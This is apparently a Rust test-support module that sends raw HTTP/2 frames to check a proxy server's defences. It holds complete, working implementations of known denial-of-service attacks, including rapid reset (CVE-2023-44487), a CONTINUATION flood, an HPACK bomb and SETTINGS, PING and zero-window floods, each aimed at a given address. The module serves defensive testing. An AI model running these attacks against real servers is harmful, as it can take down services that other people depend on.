//! Hostile HTTP/2 clients written with raw frames over h2c (prior knowledge):
//! the well-known attacks on HTTP/2 servers, one round each on a fresh
//! connection, and what the server closed it with.
//!
//! Test and benchmark support only (`crates/proxy/tests/proxy/h2_attacks.rs`,
//! the `h2_attacks` benchmark of `crates/ballast/tests/cli`). A few lines of
//! framing (RFC 9113 §4) and of HPACK literal encoding (RFC 7541 §6.2, never
//! Huffman) are all an attacker needs; a client library would refuse to send
//! most of this. Every round is bounded in frames sent and in time (`SOON`).

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// How long a round waits for the server to close the connection.
pub const SOON: Duration = Duration::from_secs(10);

pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
pub const HEADERS: u8 = 0x1;
pub const RST_STREAM: u8 = 0x3;
pub const SETTINGS: u8 = 0x4;
pub const PING: u8 = 0x6;
pub const GOAWAY: u8 = 0x7;
pub const CONTINUATION: u8 = 0x9;
pub const END_STREAM: u8 = 0x1;
pub const END_HEADERS: u8 = 0x4;
pub const ACK: u8 = 0x1;

/// ENHANCE_YOUR_CALM.
pub const CALM: u32 = 0xb;

/// RST_STREAM's error code CANCEL.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// How the server closed an attacking connection: the GOAWAY's error code and
/// debug data, or `None` for a close without one.
pub type Closed = Option<(u32, String)>;

/// One frame.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut f = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    f.extend([kind, flags]);
    f.extend(stream.to_be_bytes());
    f.extend(payload);
    f
}

/// The preface, our SETTINGS (these entries) and the ACK of the server's, sent
/// ahead: h2 takes an early one and applies its own limits at once.
pub fn hello(settings: &[(u16, u32)]) -> Vec<u8> {
    let mut payload = Vec::new();
    for (id, value) in settings {
        payload.extend(id.to_be_bytes());
        payload.extend(value.to_be_bytes());
    }
    let mut out = PREFACE.to_vec();
    out.extend(frame(SETTINGS, 0, 0, &payload));
    out.extend(frame(SETTINGS, ACK, 0, &[]));
    out
}

/// An HPACK integer with an `n`-bit prefix, the first byte's other bits `flags`.
pub fn int(flags: u8, n: u32, mut value: usize, out: &mut Vec<u8>) {
    let max = (1usize << n) - 1;
    if value < max {
        out.push(flags | value as u8);
        return;
    }
    out.push(flags | max as u8);
    value -= max;
    while value >= 128 {
        out.push((value % 128 + 128) as u8);
        value /= 128;
    }
    out.push(value as u8);
}

/// A string literal, not Huffman-coded.
pub fn string(s: &[u8], out: &mut Vec<u8>) {
    int(0, 7, s.len(), out);
    out.extend(s);
}

/// `GET path` as an HPACK block: the static table's `:method GET` and
/// `:scheme http`, literal `:path` and `:authority` (not indexed).
pub fn get(path: &str) -> Vec<u8> {
    let mut b = vec![0x82, 0x86];
    int(0x00, 4, 4, &mut b); // :path, static index 4
    string(path.as_bytes(), &mut b);
    int(0x00, 4, 1, &mut b); // :authority, static index 1
    string(b"h2.test", &mut b);
    b
}

/// A field with a new name, added to the dynamic table (index 62 then).
pub fn indexed_literal(name: &[u8], value: &[u8], out: &mut Vec<u8>) {
    out.push(0x40);
    string(name, out);
    string(value, out);
}

/// A raw h2c connection that has said hello.
pub async fn connect(addr: SocketAddr, settings: &[(u16, u32)]) -> TcpStream {
    let mut s = TcpStream::connect(addr).await.expect("connect");
    s.set_nodelay(true).expect("nodelay");
    s.write_all(&hello(settings)).await.expect("hello");
    s
}

/// Write `bytes` if the connection is still open; false once it is not.
pub async fn send(s: &mut TcpStream, bytes: &[u8]) -> bool {
    s.write_all(bytes).await.is_ok()
}

/// Read frames until a GOAWAY or the end of the connection, within `SOON`.
pub async fn closed(s: &mut TcpStream) -> Closed {
    let read = async {
        let mut head = [0u8; 9];
        loop {
            s.read_exact(&mut head).await.ok()?;
            let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
            let mut payload = vec![0u8; len];
            s.read_exact(&mut payload).await.ok()?;
            if head[3] == GOAWAY && len >= 8 {
                let code = u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]]);
                return Some((code, String::from_utf8_lossy(&payload[8..]).into_owned()));
            }
        }
    };
    tokio::time::timeout(SOON, read)
        .await
        .expect("the server closes in time")
}

/// Read frames until one of `kind` on `stream`: its flags and payload. Panics
/// on a GOAWAY.
pub async fn next_frame(s: &mut TcpStream, kind: u8, stream: u32) -> (u8, Vec<u8>) {
    let read = async {
        let mut head = [0u8; 9];
        loop {
            s.read_exact(&mut head).await.expect("a frame");
            let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
            let mut payload = vec![0u8; len];
            s.read_exact(&mut payload).await.expect("its payload");
            assert_ne!(head[3], GOAWAY, "no GOAWAY: {payload:?}");
            let id = u32::from_be_bytes([head[5], head[6], head[7], head[8]]);
            if head[3] == kind && id == stream {
                return (head[4], payload);
            }
        }
    };
    tokio::time::timeout(SOON, read)
        .await
        .expect("a frame in time")
}

/// The attacks.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// CVE-2023-44487: streams opened and reset at once, 100 pairs a write,
    /// 5,000 at most.
    RapidReset,
    /// Rapid reset of streams the server has mostly accepted already (their
    /// requests started): 10 opened, 1 ms, their 10 resets; 1,000 at most. Each
    /// round after the first waits 100 ms first.
    AcceptedReset,
    /// The 2024 CONTINUATION flood: a header block whose 1 MB field never
    /// ends, 1,000-byte CONTINUATION frames, 1,000 at most.
    Continuation,
    /// An HPACK bomb: one 4 KB field put in the dynamic table, then named again
    /// 200 times by a one-byte index: 5 KB on the wire, 800 KB decoded.
    HpackBomb,
    /// 1,000 SETTINGS frames, each to be acknowledged.
    SettingsFlood,
    /// 5,000 PINGs, 500 a write, nothing read until the end.
    PingFlood,
    /// 100 streams (the most allowed), each for a 1 MB response, and no window
    /// to send them in: SETTINGS_INITIAL_WINDOW_SIZE = 0 on even rounds, no
    /// WINDOW_UPDATE ever on odd ones.
    ZeroWindow,
}

impl Attack {
    pub const ALL: [Attack; 7] = [
        Attack::RapidReset,
        Attack::AcceptedReset,
        Attack::Continuation,
        Attack::HpackBomb,
        Attack::SettingsFlood,
        Attack::PingFlood,
        Attack::ZeroWindow,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Attack::RapidReset => "rapid reset",
            Attack::AcceptedReset => "accepted-stream reset",
            Attack::Continuation => "CONTINUATION flood",
            Attack::HpackBomb => "HPACK bomb",
            Attack::SettingsFlood => "SETTINGS flood",
            Attack::PingFlood => "PING flood",
            Attack::ZeroWindow => "zero window",
        }
    }

    /// The GOAWAY debug data ballast may answer with (h2's or its guard's).
    pub fn debug_data(self) -> &'static [&'static str] {
        match self {
            Attack::RapidReset | Attack::AcceptedReset => &["rapid_reset", "too_many_resets"],
            Attack::Continuation => &["too_many_continuations"],
            Attack::HpackBomb => &["header_list_way_too_large"],
            Attack::SettingsFlood => &["settings_flood"],
            Attack::PingFlood => &["ping_flood"],
            Attack::ZeroWindow => &["zero_window"],
        }
    }

    /// Attack `addr` once on a new connection (`round` counts from 0).
    pub async fn round(self, addr: SocketAddr, round: usize) -> Closed {
        let settings: &[(u16, u32)] = match self {
            Attack::ZeroWindow if round.is_multiple_of(2) => &[(4, 0)],
            _ => &[],
        };
        if self == Attack::AcceptedReset && round > 0 {
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        let mut s = connect(addr, settings).await;
        let open = END_HEADERS | END_STREAM;
        match self {
            Attack::RapidReset => {
                let block = get("/reset");
                let mut id = 1u32;
                for _ in 0..50 {
                    let mut burst = Vec::new();
                    for _ in 0..100 {
                        burst.extend(frame(HEADERS, open, id, &block));
                        burst.extend(frame(RST_STREAM, 0, id, &CANCEL));
                        id += 2;
                    }
                    if !send(&mut s, &burst).await {
                        break;
                    }
                }
            }
            Attack::AcceptedReset => {
                let block = get("/reset");
                let mut id = 1u32;
                for _ in 0..100 {
                    let (mut opens, mut resets) = (Vec::new(), Vec::new());
                    for _ in 0..10 {
                        opens.extend(frame(HEADERS, open, id, &block));
                        resets.extend(frame(RST_STREAM, 0, id, &CANCEL));
                        id += 2;
                    }
                    if !send(&mut s, &opens).await {
                        break;
                    }
                    tokio::time::sleep(Duration::from_millis(1)).await;
                    if !send(&mut s, &resets).await {
                        break;
                    }
                }
            }
            Attack::Continuation => {
                let mut block = get("/continuation");
                block.push(0x00);
                string(b"x-flood", &mut block);
                int(0, 7, 1 << 20, &mut block);
                let mut burst = frame(HEADERS, END_STREAM, 1, &block);
                for _ in 0..20 {
                    for _ in 0..50 {
                        burst.extend(frame(CONTINUATION, 0, 1, &[b'a'; 1000]));
                    }
                    if !send(&mut s, &burst).await {
                        break;
                    }
                    burst.clear();
                }
            }
            Attack::HpackBomb => {
                let mut block = get("/bomb");
                indexed_literal(b"x-bomb", &[b'a'; 4000], &mut block);
                block.extend([0xbe; 200]); // dynamic index 62, again and again
                send(&mut s, &frame(HEADERS, open, 1, &block)).await;
            }
            Attack::SettingsFlood => {
                let one = frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]);
                send(&mut s, &one.repeat(1000)).await;
            }
            Attack::PingFlood => {
                let burst = frame(PING, 0, 0, &[7; 8]).repeat(500);
                for _ in 0..10 {
                    if !send(&mut s, &burst).await {
                        break;
                    }
                }
            }
            Attack::ZeroWindow => {
                let block = get("/?bytes=1000000");
                let mut opens = Vec::new();
                for i in 0..100 {
                    opens.extend(frame(HEADERS, open, 1 + 2 * i, &block));
                }
                send(&mut s, &opens).await;
            }
        }
        closed(&mut s).await
    }
}
